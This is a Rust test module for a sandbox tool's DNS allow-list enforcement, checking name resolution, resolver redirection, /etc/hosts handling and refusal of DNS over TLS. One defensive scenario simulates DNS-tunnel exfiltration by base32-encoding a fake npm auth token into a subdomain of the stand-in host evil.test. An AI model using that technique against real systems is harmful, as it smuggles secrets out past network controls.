//! The session's DNS under `[network] allow = false` with `allow_hosts`, as scenarios that run
//! on the host (`tests/dns.rs`, degraded mode: the cgroup socket programs need no BPF LSM) and
//! in the VM (`tests/vm_dns.rs`, enforcing mode).
//!
//! Each runs in a [`World`] of the test's own: `good.test` (allowed, 127.0.0.2), `evil.test`
//! (127.0.0.3) and the alias `www.good.test` (of `edge.cdn.test`, 127.0.0.6) are known to the
//! DNS server on 127.0.0.4:53 that the test's resolv.conf names, and another DNS server on
//! 127.0.0.5:53 answers every name with 127.0.0.9. Each claim is
//! checked from outside the session (the servers' counters and query logs, the probe's
//! results, the JSONL), after the same attempt has been shown to work without sandtrace.
#![allow(dead_code)] // each test crate uses a different subset

use std::net::SocketAddr;

use serde_json::Value;

use crate::{
    common::{of_type, summary},
    probe::{self, Session},
    test_network::{
        ALIAS, ALIAS_ADDRESS, ALIAS_TARGET, DnsServer, EVIL, EVIL_ADDRESS, EVIL_PINNED,
        EVIL_PINNED_ADDRESS, GOOD, GOOD_ADDRESS, OTHER_ANSWER, OTHER_RESOLVER, OTHER_RESOLVER_6,
        PINNED, PINNED_ADDRESS, UPSTREAM, World,
    },
};

/// The JSONL `action` of a DNS query's connect or send that the kernel sent to the session's
/// resolver instead of the address the command chose.
pub const ACTION_REDIRECTED: &str = "redirect";
/// The `kind` of the rule of a decision made by an `allow_hosts` entry.
pub const HOST_RULE_KIND: &str = "allow_hosts";
/// The response code of the session's resolver to a name no entry covers, and the error
/// getaddrinfo makes of it.
pub const REFUSED_NAME_RESPONSE: &str = "NXDOMAIN";
pub const REFUSED_NAME_LOOKUP_ERROR: &str = "EAI_NONAME";

/// How sessions run where the scenario runs.
pub struct Mode {
    /// Policy text before `[network]` (the VM enforces the filesystem rules: the probe must be
    /// readable and executable).
    pub policy_prefix: &'static str,
    /// sandtrace's flags.
    pub flags: &'static [&'static str],
}

/// No network but the names `hosts`.
fn policy(mode: &Mode, hosts: &[&str]) -> String {
    let hosts: Vec<String> = hosts.iter().map(|h| format!("\"{h}\"")).collect();
    format!(
        "{}[network]\nallow = false\nallow_hosts = [{}]\n",
        mode.policy_prefix,
        hosts.join(", ")
    )
}

/// Runs the probe operations `ops` in a session in `world` that may reach `good.test` only.
fn in_session(world: &World, mode: &Mode, name: &str, ops: &[String]) -> Session {
    in_session_allowing(world, mode, name, &[GOOD], ops)
}

fn in_session_allowing(
    world: &World,
    mode: &Mode,
    name: &str,
    hosts: &[&str],
    ops: &[String],
) -> Session {
    // -v: allowed decisions are logged too.
    let mut flags = vec!["-v"];
    flags.extend_from_slice(mode.flags);
    let s = probe::in_session_with(name, &policy(mode, hosts), ops, &flags, |cmd| {
        world.net.enter(cmd);
    });
    summary_counts_the_queries(&s.events);
    s
}

/// The summary's `dns` counts are the log's `dns` lines, and it names the refused names.
fn summary_counts_the_queries(events: &[Value]) {
    let queries = of_type(events, "dns");
    let with = |action: &str| queries.iter().filter(|q| q["action"] == action).count();
    let counts = &summary(events)["dns"];
    assert_eq!(counts["answered"], with("allow"), "{counts} {queries:#?}");
    assert_eq!(counts["refused"], with("deny"), "{counts} {queries:#?}");
    for refused in queries.iter().filter(|q| q["action"] == "deny") {
        assert!(
            counts["refused_names"]
                .as_array()
                .is_some_and(|names| names.contains(&refused["name"])),
            "{counts} {refused}"
        );
    }
}

/// The session's `dns` events about `name`.
pub fn dns_events<'a>(events: &'a [Value], name: &str) -> Vec<&'a Value> {
    of_type(events, "dns")
        .into_iter()
        .filter(|e| e["name"] == name)
        .collect()
}

/// The `dns` event about `name`'s A query over `transport`, which must exist.
pub fn dns_event<'a>(events: &'a [Value], name: &str, transport: &str) -> &'a Value {
    dns_events(events, name)
        .into_iter()
        .find(|e| e["query_type"] == "A" && e["transport"] == transport)
        .unwrap_or_else(|| {
            panic!(
                "no {transport} A query for {name} among {:#?}",
                of_type(events, "dns")
            )
        })
}

/// The network events about `operation` on `address`.
pub fn network_events<'a>(
    events: &'a [Value],
    operation: &str,
    address: SocketAddr,
) -> Vec<&'a Value> {
    of_type(events, "network")
        .into_iter()
        .filter(|e| {
            e["operation"] == operation
                && e["address"] == address.ip().to_string()
                && e["port"] == address.port()
        })
        .collect()
}

/// The one network event with `action` about `operation` on `address`, which must exist.
pub fn network_event<'a>(
    events: &'a [Value],
    operation: &str,
    address: SocketAddr,
    action: &str,
) -> &'a Value {
    network_events(events, operation, address)
        .into_iter()
        .find(|e| e["action"] == action)
        .unwrap_or_else(|| {
            panic!(
                "no {operation} {address} with action {action:?} among {:#?}",
                of_type(events, "network")
            )
        })
}

/// Whether a DNS server's query log has a query for `name`.
fn asked_for(queries: &[String], name: &str) -> bool {
    queries
        .iter()
        .any(|q| q.split_whitespace().nth(1) == Some(name))
}

fn at(ip: &str, port: u16) -> SocketAddr {
    format!("{ip}:{port}").parse().unwrap()
}

/// `good.test` is reachable by name over TCP and UDP, through the session's resolver; its
/// address is reachable only once the resolver has handed it out.
pub fn allowed_name_is_reachable_over_tcp_and_udp(mode: &Mode, name: &str) {
    let world = World::new(name);
    let good = world.servers(GOOD_ADDRESS);
    let (tcp, udp) = (good.tcp.port(), good.udp.port());
    let by_name = [
        format!("resolve {GOOD}"),
        format!("tcp-connect-name {GOOD} {tcp}"),
        format!("udp-send-name {GOOD} {udp}"),
    ];
    assert_eq!(
        world.outside(&by_name.join(";")),
        [GOOD_ADDRESS, "ok", "ok"],
        "without sandtrace"
    );
    assert_eq!(good.tcp_accepted(1), 1);
    assert_eq!(good.udp_received(1), 1);
    assert!(asked_for(&world.upstream.take_queries(), GOOD));

    let mut ops = vec![format!("tcp-connect {}", good.tcp)];
    ops.extend(by_name.iter().cloned());
    ops.push(format!("tcp-connect {}", good.tcp));
    let s = in_session(&world, mode, name, &ops);
    assert_eq!(
        s.results,
        ["EPERM", GOOD_ADDRESS, "ok", "ok", "ok"],
        "before the name is resolved its address is not reachable; after, it is: {ops:?}\n{}",
        s.stderr
    );
    assert_eq!(good.tcp_accepted(3), 3, "two connects from the session");
    assert_eq!(good.udp_received(2), 2, "one datagram from the session");
    assert!(
        asked_for(&world.upstream.take_queries(), GOOD),
        "sandtrace's resolver asks the resolver of the machine's (here: the test's) resolv.conf"
    );
    assert!(world.other.take_queries().is_empty());

    let query = dns_event(&s.events, GOOD, "udp");
    assert_eq!(query["action"], "allow", "{query}");
    assert_eq!(query["response"], "NOERROR", "{query}");
    assert_eq!(
        query["answers"],
        serde_json::json!([GOOD_ADDRESS]),
        "{query}"
    );
    assert_eq!(query["rule"]["kind"], HOST_RULE_KIND, "{query}");
    // (Its `host` may name good.test: the log names an address by the last name the
    // resolver handed it out for, and that may have happened by the time the line is written.)
    network_event(&s.events, "connect", good.tcp, "deny");
    for (operation, address) in [("connect", good.tcp), ("send", good.udp)] {
        let allowed = network_event(&s.events, operation, address, "allow");
        assert_eq!(allowed["host"], GOOD, "{allowed}");
        assert_eq!(allowed["rule"]["kind"], HOST_RULE_KIND, "{allowed}");
        assert_eq!(allowed["rule"]["pattern"], GOOD, "{allowed}");
        // The call's own record names the destination the same way.
        let call = of_type(&s.events, "socket")
            .into_iter()
            .find(|l| {
                l["operation"] == operation
                    && l["address"] == address.ip().to_string()
                    && l["port"] == address.port()
                    && l["success"] == true
            })
            .unwrap_or_else(|| panic!("no successful {operation} socket line to {address}"));
        assert_eq!(call["host"], GOOD, "{call}");
    }
}

/// An entry with a port (`good.test:PORT`) admits the name's addresses on that port only.
pub fn an_entry_with_a_port_allows_only_that_port(mode: &Mode, name: &str) {
    let world = World::new(name);
    let good = world.servers(GOOD_ADDRESS);
    let (tcp, udp) = (good.tcp.port(), good.udp.port());
    let ops = [
        format!("tcp-connect-name {GOOD} {tcp}"),
        format!("udp-send-name {GOOD} {udp}"),
    ];
    assert_eq!(
        world.outside(&ops.join(";")),
        ["ok", "ok"],
        "without sandtrace"
    );
    assert_eq!(good.udp_received(1), 1);

    let entry = format!("{GOOD}:{tcp}");
    let s = in_session_allowing(&world, mode, name, &[&entry], &ops);
    assert_eq!(s.results, ["ok", "EPERM"], "{ops:?}\n{}", s.stderr);
    assert_eq!(good.tcp_accepted(2), 2);
    assert_eq!(
        good.udp_received(1),
        1,
        "a datagram to another port got through"
    );
    let allowed = network_event(&s.events, "connect", good.tcp, "allow");
    assert_eq!(allowed["rule"]["pattern"], entry, "{allowed}");
    network_event(&s.events, "send", good.udp, "deny");
}

/// `evil.test` does not resolve, its query never leaves the session, and its address is out of
/// reach.
pub fn other_names_do_not_resolve_and_their_addresses_are_denied(mode: &Mode, name: &str) {
    let world = World::new(name);
    let evil = world.servers(EVIL_ADDRESS);
    let (tcp, udp) = (evil.tcp, evil.udp);
    let ops = [
        format!("resolve {EVIL}"),
        format!("tcp-connect-name {EVIL} {}", tcp.port()),
        format!("tcp-connect {tcp}"),
        format!("udp-send {udp}"),
    ];
    assert_eq!(
        world.outside(&ops.join(";")),
        [EVIL_ADDRESS, "ok", "ok", "ok"],
        "without sandtrace"
    );
    assert_eq!(evil.tcp_accepted(2), 2);
    assert_eq!(evil.udp_received(1), 1);
    assert!(asked_for(&world.upstream.take_queries(), EVIL));

    let s = in_session(&world, mode, name, &ops);
    assert_eq!(
        s.results,
        [
            REFUSED_NAME_LOOKUP_ERROR,
            &format!("resolve:{REFUSED_NAME_LOOKUP_ERROR}"),
            "EPERM",
            "EPERM"
        ],
        "{ops:?}"
    );
    assert_eq!(
        evil.tcp_accepted(2),
        2,
        "a connection from the session got through"
    );
    assert_eq!(
        evil.udp_received(1),
        1,
        "a datagram from the session got through"
    );
    let upstream = world.upstream.take_queries();
    assert!(
        !asked_for(&upstream, EVIL),
        "the query for a name no entry covers left the session: {upstream:?}"
    );
    assert!(world.other.take_queries().is_empty());

    let query = dns_event(&s.events, EVIL, "udp");
    assert_eq!(query["action"], "deny", "{query}");
    assert_eq!(query["response"], REFUSED_NAME_RESPONSE, "{query}");
    assert_eq!(query["answers"], serde_json::json!([]), "{query}");
    for (operation, address) in [("connect", tcp), ("send", udp)] {
        let denied = network_event(&s.events, operation, address, "deny");
        assert!(denied.get("host").is_none(), "{denied}");
    }
}

/// An allowed name that is an alias (CNAME) of another name resolves to the address at the end
/// of the chain, which is then reachable and carries the allowed name; the chain's target is
/// not an allowed name by itself.
pub fn an_alias_of_an_allowed_name_is_followed(mode: &Mode, name: &str) {
    let world = World::new(name);
    let edge = world.servers(ALIAS_ADDRESS);
    let ops = [
        format!("resolve {ALIAS}"),
        format!("tcp-connect-name {ALIAS} {}", edge.tcp.port()),
        format!("dns-query {UPSTREAM} {ALIAS}"),
        format!("resolve {ALIAS_TARGET}"),
    ];
    let answer = format!("NOERROR {ALIAS_ADDRESS}");
    assert_eq!(
        world.outside(&ops.join(";")),
        [ALIAS_ADDRESS, "ok", &answer, ALIAS_ADDRESS],
        "without sandtrace"
    );
    assert_eq!(edge.tcp_accepted(1), 1);
    world.upstream.take_queries();

    let s = in_session_allowing(&world, mode, name, &[GOOD, ALIAS], &ops);
    assert_eq!(
        s.results,
        [ALIAS_ADDRESS, "ok", &answer, REFUSED_NAME_LOOKUP_ERROR],
        "{ops:?}\n{}",
        s.stderr
    );
    assert_eq!(edge.tcp_accepted(2), 2, "the connect from the session");
    assert!(asked_for(&world.upstream.take_queries(), ALIAS));

    let query = dns_event(&s.events, ALIAS, "udp");
    assert_eq!(query["action"], "allow", "{query}");
    assert_eq!(
        query["answers"],
        serde_json::json!([ALIAS_ADDRESS]),
        "the chain flattened to its addresses: {query}"
    );
    let connect = network_event(&s.events, "connect", edge.tcp, "allow");
    assert_eq!(connect["host"], ALIAS, "{connect}");
    assert_eq!(dns_event(&s.events, ALIAS_TARGET, "udp")["action"], "deny");
}

/// An allowed name that `/etc/hosts` maps (the command's C library finds it there and asks no
/// DNS server) is reachable from the start; a name `/etc/hosts` maps that no entry covers
/// resolves the same way (the file is the command's to read), but its address stays out of
/// reach.
pub fn names_in_etc_hosts_follow_the_rules_too(mode: &Mode, name: &str) {
    let world = World::new(name);
    let pinned = world.servers(PINNED_ADDRESS);
    let evil = world.servers(EVIL_PINNED_ADDRESS);
    let ops = [
        format!("tcp-connect-name {PINNED} {}", pinned.tcp.port()),
        format!("udp-send-name {PINNED} {}", pinned.udp.port()),
        format!("resolve {EVIL_PINNED}"),
        format!("tcp-connect-name {EVIL_PINNED} {}", evil.tcp.port()),
    ];
    assert_eq!(
        world.outside(&ops.join(";")),
        ["ok", "ok", EVIL_PINNED_ADDRESS, "ok"],
        "without sandtrace"
    );
    assert_eq!(pinned.tcp_accepted(1), 1);
    assert_eq!(evil.tcp_accepted(1), 1);

    let s = in_session_allowing(&world, mode, name, &[GOOD, PINNED], &ops);
    assert_eq!(
        s.results,
        ["ok", "ok", EVIL_PINNED_ADDRESS, "EPERM"],
        "{ops:?}\n{}",
        s.stderr
    );
    assert_eq!(pinned.tcp_accepted(2), 2);
    assert_eq!(pinned.udp_received(2), 2);
    assert_eq!(
        evil.tcp_accepted(1),
        1,
        "a connection to {EVIL_PINNED} got through"
    );
    let upstream = world.upstream.take_queries();
    assert!(
        !asked_for(&upstream, PINNED) && !asked_for(&upstream, EVIL_PINNED),
        "the names are /etc/hosts's: {upstream:?}"
    );
    let connect = network_event(&s.events, "connect", pinned.tcp, "allow");
    assert_eq!(connect["host"], PINNED, "{connect}");
    network_event(&s.events, "connect", evil.tcp, "deny");
}

/// A query sent straight to another resolver, over UDP or TCP, IPv4 or IPv6, is answered by
/// the session's resolver (with the reply coming from the address the command chose), never by
/// that one.
pub fn queries_to_another_resolver_are_answered_by_the_sessions(mode: &Mode, name: &str) {
    let world = World::new(name);
    let other6 = DnsServer::start(
        &world.net,
        OTHER_RESOLVER_6.parse().unwrap(),
        &[&format!("*={OTHER_ANSWER}")],
    );
    let mapped = format!("[::ffff:{}]:53", world.other.address.ip());
    let good = format!("NOERROR {GOOD_ADDRESS}");
    // Each query and its answer in the session (outside, the other resolver answers them all).
    let table = [
        (format!("dns-query {OTHER_RESOLVER} {GOOD}"), good.as_str()),
        (format!("dns-query-tcp {OTHER_RESOLVER} {GOOD}"), &good),
        (
            format!("dns-query {OTHER_RESOLVER} {EVIL}"),
            REFUSED_NAME_RESPONSE,
        ),
        (
            format!("dns-query-tcp {OTHER_RESOLVER} {EVIL}"),
            REFUSED_NAME_RESPONSE,
        ),
        (format!("dns-query {mapped} {GOOD}"), &good),
        (format!("dns-query {OTHER_RESOLVER_6} {GOOD}"), &good),
        (format!("dns-query-tcp {OTHER_RESOLVER_6} {GOOD}"), &good),
    ];
    let ops: Vec<String> = table.iter().map(|(op, _)| op.clone()).collect();
    let other_answer = format!("NOERROR {OTHER_ANSWER}");
    assert_eq!(
        world.outside(&ops.join(";")),
        vec![other_answer; ops.len()],
        "without sandtrace: {ops:?}"
    );
    assert_eq!(world.other.take_queries().len(), 5);
    assert_eq!(other6.take_queries().len(), 2);

    let s = in_session(&world, mode, name, &ops);
    let want: Vec<&str> = table.iter().map(|(_, answer)| *answer).collect();
    assert_eq!(
        s.results, want,
        "answered by the session's resolver, from the address queried (no `from=`): {ops:?}\n{}",
        s.stderr
    );
    for server in [&world.other, &other6] {
        let reached = server.take_queries();
        assert!(
            reached.is_empty(),
            "reached the resolver on {}: {reached:?}",
            server.address
        );
    }
    assert!(!asked_for(&world.upstream.take_queries(), EVIL));

    for transport in ["udp", "tcp"] {
        assert_eq!(dns_event(&s.events, GOOD, transport)["action"], "allow");
        assert_eq!(dns_event(&s.events, EVIL, transport)["action"], "deny");
    }
    let other = world.other.address;
    network_event(&s.events, "connect", other, ACTION_REDIRECTED);
    // Three datagrams to it: two plain, one through its IPv4-mapped address (which the log may
    // show in either form).
    let sends = [other, mapped.parse().unwrap()]
        .iter()
        .flat_map(|address| network_events(&s.events, "send", *address))
        .filter(|e| e["action"] == ACTION_REDIRECTED)
        .count();
    assert_eq!(sends, 3, "{:#?}", of_type(&s.events, "network"));
    network_event(&s.events, "send", other6.address, ACTION_REDIRECTED);
    network_event(&s.events, "connect", other6.address, ACTION_REDIRECTED);
}

/// A secret spelled into a name below `evil.test` (what a DNS tunnel sends) reaches no DNS
/// server, whichever way it is sent.
pub fn a_secret_in_a_name_reaches_no_server(mode: &Mode, name: &str) {
    let world = World::new(name);
    let secret = format!("{}.{EVIL}", base32(b"_authToken=npm_s3cr3t"));
    let ops = [
        format!("resolve {secret}"),
        format!("dns-query {UPSTREAM} {secret}"),
        format!("dns-query-tcp {OTHER_RESOLVER} {secret}"),
    ];
    assert_eq!(
        world.outside(&ops.join(";")),
        ["EAI_NONAME", "NXDOMAIN", &format!("NOERROR {OTHER_ANSWER}")],
        "without sandtrace: the upstream does not know the name, the other answers all"
    );
    assert!(asked_for(&world.upstream.take_queries(), &secret));
    assert!(asked_for(&world.other.take_queries(), &secret));

    let s = in_session(&world, mode, name, &ops);
    assert_eq!(
        s.results,
        [
            REFUSED_NAME_LOOKUP_ERROR,
            REFUSED_NAME_RESPONSE,
            REFUSED_NAME_RESPONSE
        ],
        "{ops:?}"
    );
    for server in [&world.upstream, &world.other] {
        let queries = server.take_queries();
        assert!(
            !queries.iter().any(|q| q.contains(&secret)),
            "the secret reached {}: {queries:?}",
            server.address
        );
    }
    let queries = dns_events(&s.events, &secret);
    assert!(queries.len() >= 3, "each query is an event: {queries:#?}");
    assert!(
        queries.iter().all(|q| q["action"] == "deny"),
        "{queries:#?}"
    );
}

/// DNS over TLS (and over QUIC: UDP) on port 853 is refused to any address, also to one an
/// allowed name resolved to.
pub fn dns_over_tls_is_refused(mode: &Mode, name: &str) {
    let world = World::new(name);
    let resolver = world.servers_at(at("127.0.0.5", 853));
    let good = world.servers_at(at(GOOD_ADDRESS, 853));
    let ops = [
        format!("tcp-connect {}", resolver.tcp),
        format!("udp-send {}", resolver.udp),
        format!("tcp-connect-name {GOOD} 853"),
    ];
    assert_eq!(
        world.outside(&ops.join(";")),
        ["ok"; 3],
        "without sandtrace"
    );
    assert_eq!(resolver.tcp_accepted(1), 1);
    assert_eq!(resolver.udp_received(1), 1);
    assert_eq!(good.tcp_accepted(1), 1);

    let s = in_session(&world, mode, name, &ops);
    assert_eq!(s.results, ["EPERM"; 3], "{ops:?}");
    assert_eq!(resolver.tcp_accepted(1), 1, "a DoT connection got through");
    assert_eq!(resolver.udp_received(1), 1, "a DoQ datagram got through");
    assert_eq!(good.tcp_accepted(1), 1, "port 853 of an allowed name");
    network_event(&s.events, "connect", resolver.tcp, "deny");
    network_event(&s.events, "send", resolver.udp, "deny");
    network_event(&s.events, "connect", at(GOOD_ADDRESS, 853), "deny");
}

/// RFC 4648 base32, lower case, without padding: what DNS tunnels spell data with.
fn base32(data: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::new();
    let (mut bits, mut value) = (0u32, 0u32);
    for &byte in data {
        value = (value << 8) | u32::from(byte);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(char::from(ALPHABET[((value >> bits) & 31) as usize]));
        }
    }
    if bits > 0 {
        out.push(char::from(ALPHABET[((value << (5 - bits)) & 31) as usize]));
    }
    out
}

/// Without `allow_hosts` the session's resolver does not run: its DNS is recorded from its
/// traffic instead, in the `dns` lines (`action` `observed`), whether the network is open or
/// reaches only the server, over UDP (getaddrinfo's, and a query of the command's own) and
/// TCP; a payload to port 53 that is not DNS is recorded as such.
pub fn queries_are_recorded_from_the_traffic_without_the_resolver(mode: &Mode, name: &str) {
    let world = World::new(name);
    let good = world.servers(GOOD_ADDRESS);
    let ops = [
        format!("resolve {GOOD}"),
        format!("tcp-connect-name {GOOD} {}", good.tcp.port()),
        format!("dns-query {UPSTREAM} {EVIL}"),
        format!("dns-query-tcp {UPSTREAM} {GOOD}"),
        format!("udp-send {UPSTREAM}"),
    ];
    let mut expected = [
        GOOD_ADDRESS.to_owned(),
        "ok".to_owned(),
        format!("NOERROR {EVIL_ADDRESS}"),
        format!("NOERROR {GOOD_ADDRESS}"),
        "ok".to_owned(),
    ];
    assert_eq!(world.outside(&ops.join(";")), expected, "without sandtrace");
    // The network open, then only the server reachable: the connect to good.test is denied.
    for (network, connect) in [
        ("allow = true\n".to_owned(), "ok"),
        (
            format!("allow = false\nallow_connect = [\"{UPSTREAM}\"]\n"),
            "EPERM",
        ),
    ] {
        expected[1] = connect.to_owned();
        let policy = format!("{}[network]\n{network}", mode.policy_prefix);
        let s = probe::in_session_with(name, &policy, &ops, mode.flags, |cmd| {
            world.net.enter(cmd);
        });
        assert_eq!(s.results, expected, "{network}\n{}", s.stderr);
        let observed: Vec<&Value> = of_type(&s.events, "dns")
            .into_iter()
            .filter(|q| q["action"] == "observed" && q["server"] == UPSTREAM)
            .collect();
        let context = format!("{network}{observed:#?}\n{}", s.stderr);
        let answered = |name: &str, transport: &str, address: &str| {
            observed.iter().any(|q| {
                q["name"] == name
                    && q["query_type"] == "A"
                    && q["transport"] == transport
                    && q["response"] == "NOERROR"
                    && q["answers"] == serde_json::json!([address])
            })
        };
        assert!(answered(GOOD, "udp", GOOD_ADDRESS), "{context}");
        assert!(answered(EVIL, "udp", EVIL_ADDRESS), "{context}");
        assert!(answered(GOOD, "tcp", GOOD_ADDRESS), "{context}");
        assert!(
            observed
                .iter()
                .any(|q| q["reason"] == "traffic on port 53 that is not a DNS message"),
            "{context}"
        );
        if connect == "EPERM" {
            // A server the command picked may answer anything: its answers name no address.
            let denied = network_event(&s.events, "connect", good.tcp, "deny");
            assert!(denied.get("host").is_none(), "{denied}");
        }
        let counts = &summary(&s.events)["dns"];
        assert_eq!(counts["observed"], observed.len(), "{counts} {context}");
        for name in [GOOD, EVIL] {
            assert!(
                counts["observed_names"]
                    .as_array()
                    .is_some_and(|names| names.iter().any(|n| n == name)),
                "{counts}"
            );
        }
    }
}
